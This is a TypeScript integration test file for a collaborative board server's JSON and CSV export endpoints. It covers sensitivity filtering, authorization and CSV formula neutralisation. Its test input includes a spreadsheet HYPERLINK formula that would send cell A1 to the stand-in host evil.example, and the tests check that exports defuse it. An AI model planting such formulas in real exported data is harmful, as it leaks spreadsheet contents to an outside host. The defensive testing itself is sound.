// The json, items.csv and links.csv exports through the real server: a stock y-websocket client
// writes a board (with a newer client's fields and kind, a formula-like text, negative
// coordinates, a confidential card), then each export is read with a real JSON or CSV parser.
import { addItem, boardMaps, linkItems, type ItemId, type NewItem } from '@interlink/model';
import type { CreatedBoard } from '@interlink/protocol';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { eventually, stockClient, waitForSynced } from '../support/clients.js';
import { expectApiError, isRecord, request } from '../support/http.js';
import { Resources } from '../support/resources.js';
import { startServer, type RunningServer } from '../support/server.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

function writeBoard(doc: Y.Doc): void {
  const add = (item: NewItem): ItemId => addItem(doc, item);
  const drought = add({ kind: 'threat', x: -120, y: 40, text: 'Drought, "severe"\nand long', dimensions: ['food', 'environmental'], severity: 5, likelihood: 4, author: 'Amina' });
  const formula = add({ kind: 'note', x: 300, y: -7.5, text: FORMULA });
  const secret = add({ kind: 'actor', x: 0, y: 400, text: 'Informant in the militia', sensitivity: 'confidential' });
  const restricted = add({ kind: 'group', x: 600, y: 0, text: 'Herders near the river', sensitivity: 'restricted' });
  linkItems(doc, { kind: 'affects', from: drought, to: restricted, label: '-hard' });
  linkItems(doc, { kind: 'relates', from: secret, to: drought });
  linkItems(doc, { kind: 'relates', from: formula, to: drought });
  // What a newer client writes: a field and a kind this version does not know.
  doc.transact(() => {
    boardMaps(doc).items.get(drought)?.set('hazardZone', { river: 'Niger', km: 12 });
    const future = new Y.Map<unknown>();
    boardMaps(doc).items.set('future-card', future);
    for (const [key, value] of Object.entries({ kind: 'hazard-zone', x: 0, y: 0, w: 10, h: 10, radius: 3 })) future.set(key, value);
    future.set('text', new Y.Text('Flood plain'));
  });
}

type Row = Record<string, string>;
const csvRows = (text: string): Row[] => parse(text, { bom: true, columns: true });

describe('GET /api/boards/:id/export/{json,items.csv,links.csv}', () => {
  const resources = new Resources();
  let server: RunningServer;
  let board: CreatedBoard;

  beforeAll(async () => {
    server = resources.server(await startServer());
    board = await server.createBoard('Flood & drought workshop');
    const writer = resources.client(stockClient(server.wsUrl, board.id, board.tokens.participant));
    await waitForSynced(writer.provider);
    writeBoard(writer.doc);
    const reader = resources.client(stockClient(server.wsUrl, board.id, board.tokens.observer));
    await waitForSynced(reader.provider);
    await eventually(() => reader.doc.getMap('items').size === 5 && reader.doc.getMap('links').size === 3, 'the reader has the board');
  });
  afterAll(() => resources.dispose());

  const url = (format: string, query = ''): string => `${server.url}/api/boards/${board.id}/export/${format}${query}`;

  it('json: schema, title, every item with its fields, sorted by id, newer fields and kinds kept', async () => {
    const response = await request(url('json'), { token: board.tokens.participant });
    expect(response.status).toBe(200);
    expect(response.contentType).toBe('application/json; charset=utf-8');
    const body = response.body;
    if (!isRecord(body) || !Array.isArray(body.items) || !Array.isArray(body.links)) throw new Error(`not an export: ${response.text}`);
    expect(body.schema).toBe(1);
    expect(body.title).toBe('Flood & drought workshop');
    const items = body.items as Row[];
    const ids = items.map((item) => item.id ?? '');
    expect(ids).toEqual([...ids].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
    expect(items.find((item) => item.kind === 'threat')).toMatchObject({
      text: 'Drought, "severe"\nand long',
      x: -120,
      dimensions: ['food', 'environmental'],
      severity: 5,
      author: 'Amina',
      hazardZone: { river: 'Niger', km: 12 },
      createdAt: expect.any(Number),
    });
    expect(items.find((item) => item.id === 'future-card')).toEqual({ id: 'future-card', kind: 'hazard-zone', text: 'Flood plain', x: 0, y: 0, w: 10, h: 10, radius: 3 });
    expect(items.map((item) => item.text)).not.toContain('Informant in the militia');
    // The link from the confidential card is left out with it.
    expect(body.links).toHaveLength(2);
  });

  it('items.csv: RFC 4180 with a header, formula cells and negative numbers neutralised', async () => {
    const response = await request(url('items.csv'), { token: board.tokens.observer });
    expect(response.status).toBe(200);
    expect(response.contentType).toBe('text/csv; charset=utf-8');
    const raw = await fetch(url('items.csv'), { headers: { authorization: `Bearer ${board.tokens.observer}` } });
    expect(raw.headers.get('content-disposition')).toBe(`attachment; filename="${board.id}.items.csv"`);
    const bytes = new Uint8Array(await raw.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // (fetch's text() drops the BOM, as a UTF-8 decoder does; the bytes above hold it.)
    expect(response.text.split('\r\n')[0]).toBe(
      'id,kind,text,x,y,w,h,color,sensitivity,author,createdAt,dimensions,severity,likelihood,onset,level,sector,strategy,phase,threshold,action,hazardZone,radius',
    );
    const rows = csvRows(response.text);
    const byKind = (kind: string): Row | undefined => rows.find((row) => row.kind === kind);
    expect(byKind('note')).toMatchObject({ text: `'${FORMULA}`, x: '300', y: "'-7.5" });
    expect(byKind('threat')).toMatchObject({ text: 'Drought, "severe"\nand long', x: "'-120", dimensions: 'food;environmental', severity: '5', hazardZone: '{"km":12,"river":"Niger"}' });
    expect(byKind('hazard-zone')).toMatchObject({ id: 'future-card', radius: '3' });
    // Every cell that a spreadsheet would run as a formula starts with the quote.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves confidential rows out for a participant and by default, and in for a facilitator who asks', async () => {
    const texts = async (token: string, query = ''): Promise<string[]> => csvRows((await request(url('items.csv', query), { token })).text).map((row) => row.text ?? '');
    expect(await texts(board.tokens.participant)).not.toContain('Informant in the militia');
    expect(await texts(board.tokens.facilitator)).not.toContain('Informant in the militia');
    expect(await texts(board.tokens.participant, '?maxSensitivity=confidential')).not.toContain('Informant in the militia');
    expect(await texts(board.tokens.facilitator, '?maxSensitivity=confidential')).toContain('Informant in the militia');
    const publicOnly = await texts(board.tokens.facilitator, '?maxSensitivity=public');
    expect(publicOnly).not.toContain('Herders near the river');
    expect(publicOnly).toHaveLength(3);
  });

  it('links.csv: one row per link between exported items, neutralised', async () => {
    const rows = csvRows((await request(url('links.csv'), { token: board.tokens.participant })).text);
    expect(Object.keys(rows[0] ?? {})).toEqual(['id', 'kind', 'from', 'to', 'label', 'polarity']);
    expect(rows.map((row) => row.kind).sort()).toEqual(['affects', 'relates']);
    expect(rows.find((row) => row.kind === 'affects')?.label).toBe("'-hard");
    const everything = csvRows((await request(url('links.csv', '?maxSensitivity=confidential'), { token: board.tokens.facilitator })).text);
    expect(everything).toHaveLength(3);
  });

  it('needs a token', async () => {
    expect(expectApiError(await request(url('json')), 401).code).toBe('unauthorized');
    expect(expectApiError(await request(url('items.csv'), { token: 'wrong' }), 401).code).toBe('unauthorized');
  });
});
